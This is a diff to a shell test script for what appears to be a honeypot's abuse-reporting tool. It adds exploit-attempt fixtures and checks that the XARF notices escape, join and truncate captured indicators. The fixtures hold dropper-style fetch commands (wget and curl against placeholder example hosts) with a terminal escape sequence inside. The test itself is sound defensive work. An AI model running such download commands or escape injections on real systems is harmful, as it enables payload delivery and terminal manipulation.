@@ -158,6 +158,17 @@ INSERT INTO logins (id, ts, sensor, channel, src_ip, persona, match_kind, userna
  (1, 1770627700000, 'odd-1', 'form', '192.0.2.9', 'axis', 'none', 'root', 64502, 'Odd "Net" <b>'),
  (2, 1770627700000, 'odd-1', 'form', '192.0.2.9', 'axis', 'none', 'admin', 64502, 'Odd "Net" <b>'),
  (3, 1770627700000, 'odd-1', 'form', '192.0.2.10', 'axis', 'none', 'root', 64502, 'Odd "Net" <b>');
+-- indicators with an escape, quotes, a backslash, a newline between fetch commands and a URL
+-- past the notice's cut (200 characters), in two attempts of one rule: the older is the sample
+INSERT INTO exploits (id, ts, sensor, persona, src_ip, rule, cve, family, answered, payload_len,
+  payload_truncated, ioc_urls, ioc_fetch, asn, as_org) VALUES
+ (1, 1770627800000, 'odd-1', 'axis', '192.0.2.9', 'generic-dropper', NULL, 'dropper', 0, 9, 0,
+  'http://e.example$long', 'wget http://e.example/"a"\b' || char(27) || '[2J
+curl -o x http://f.example/', 64502, 'Odd "Net" <b>'),
+ (2, 1770627900000, 'odd-1', 'axis', '192.0.2.9', 'generic-dropper', NULL, 'dropper', 0, 9, 0,
+  'http://later.example/', NULL, 64502, 'Odd "Net" <b>'),
+ (3, 1770627950000, 'odd-1', 'axis', '192.0.2.9', 'gpon-cve-2018-10561', 'CVE-2018-10561', 'cmd-injection', 0, 0, 0,
+  NULL, NULL, 64502, 'Odd "Net" <b>');
 SQL
 # twelve countries: the country chart's "others" row
 python3 - >>"$TMP/odd.sql" <<'PY'
@@ -191,12 +202,64 @@ xarf_both() { # CH_DATABASE ASN DB...
 	for d in "$@"; do dbs+=(--db "$d"); done
 	"$REPORT" "${dbs[@]}" --asn "$asn" "${XARF[@]}" abuse | sed 's/"report_id": "[^"]*"//' >"$TMP/lite"
 	"$REPORT" --clickhouse "$CH_URL" --clickhouse-database "$chdb" --asn "$asn" "${XARF[@]}" abuse |
-		sed 's/"report_id": "[^"]*"//' >"$TMP/house"
+		tee "$TMP/house.jsonl" | sed 's/"report_id": "[^"]*"//' >"$TMP/house"
 	check "XARF notices of AS$asn: both backends write the same" cmp -s "$TMP/lite" "$TMP/house"
 	check "XARF notices of AS$asn are there" test -s "$TMP/house"
 }
 xarf_both odd 64502 "$TMP/odd.db"
+cp "$TMP/house.jsonl" "$TMP/odd-xarf.jsonl"
 xarf_both golden 64501 "$TMP/a.db" "$TMP/b.db"
+xarf_both xfix 64500 "$TMP/x.db"
+cp "$TMP/house.jsonl" "$TMP/x-xarf.jsonl"
+xarf_both xfix 64501 "$TMP/x.db"
+cat "$TMP/house.jsonl" "$TMP/odd-xarf.jsonl" >>"$TMP/x-xarf.jsonl"
+# The exploitation notices' figures recomputed from the raw exploits rows in ClickHouse: per
+# address and rule the attempts, first and last seen (ms); per address the total; then the
+# notices' (their evidence lines and total_requests).
+RAWX="SELECT src_ip, rule, ts FROM xfix.exploits FINAL WHERE asn IN (64500, 64501)
+	UNION ALL SELECT src_ip, rule, ts FROM odd.exploits FINAL WHERE asn = 64502"
+ch_query "$CH_URL" "SELECT src_ip, rule, count(), min(ts), max(ts) FROM ($RAWX)
+	GROUP BY src_ip, rule ORDER BY src_ip, rule FORMAT TSV" >"$TMP/xn.raw"
+ch_query "$CH_URL" "SELECT src_ip, count() FROM ($RAWX) GROUP BY src_ip ORDER BY src_ip FORMAT TSV" >>"$TMP/xn.raw"
+python3 - "$TMP/x-xarf.jsonl" >"$TMP/xn.notices" 2>&1 <<'PY'
+import base64, calendar, json, re, sys, time
+per, tot = [], []
+ms = lambda t: str(calendar.timegm(time.strptime(t, "%Y-%m-%dT%H:%M:%SZ")) * 1000)
+for l in open(sys.argv[1]):
+    r = json.loads(l)
+    if r["type"] != "vulnerability_scan":
+        continue
+    body = base64.b64decode(r["evidence"][0]["payload"]).decode()
+    n = 0
+    for e in body.splitlines():
+        m = re.match(r"(\S+) \.\. (\S+) (\d+) attempt\(s\) of rule ([^,;]+)", e)
+        per.append((r["source_identifier"], m[4], m[3], ms(m[1]), ms(m[2])))
+        n += int(m[3])
+    tot.append((r["source_identifier"], str(r["total_requests"] if n == r["total_requests"] else -1)))
+for row in sorted(per) + sorted(tot):
+    print("\t".join(row))
+PY
+check "the exploitation notices' figures equal the raw rows' ($(wc -l <"$TMP/xn.raw") lines)" cmp -s "$TMP/xn.raw" "$TMP/xn.notices"
+cmp -s "$TMP/xn.raw" "$TMP/xn.notices" || diff "$TMP/xn.raw" "$TMP/xn.notices" >&2
+# the oldest attempt's indicators, escaped (no raw ESC, the quotes and backslash JSON-safe in
+# the evidence's text), fetch commands joined, the URL cut at 200 characters
+python3 - "$TMP/odd-xarf.jsonl" >"$TMP/xn.odd" 2>&1 <<'PY'
+import base64, json, sys
+raw = open(sys.argv[1], "rb").read()
+ok = b"\x1b" not in raw
+for l in raw.decode().splitlines():
+    r = json.loads(l)
+    if r["type"] == "vulnerability_scan" and r["source_identifier"] == "192.0.2.9":
+        b = base64.b64decode(r["evidence"][0]["payload"]).decode()
+        print(b)
+        ok = ok and "\x1b" not in b and "later.example" not in b
+        ok = ok and 'fetch commands: wget http://e.example/"a"\\b?[2J, curl -o x http://f.example/' in b
+        url = b.split("URLs: ")[1].split(";")[0]
+        ok = ok and len(url) == 200 and r["vulnerabilities_probed"] == ["generic-dropper", "CVE-2018-10561"]
+        ok = ok and r["total_requests"] == 3
+sys.exit(0 if ok else 1)
+PY
+check "an exploitation notice carries its oldest attempt's indicators, escaped, joined and cut" [ $? = 0 ]
 # report --out: every file the same (charts and their data, every view and
 # session, the tables), the page but for the line that says where from
 report_both() { # NAME CH_DATABASE "ARGS" DB...
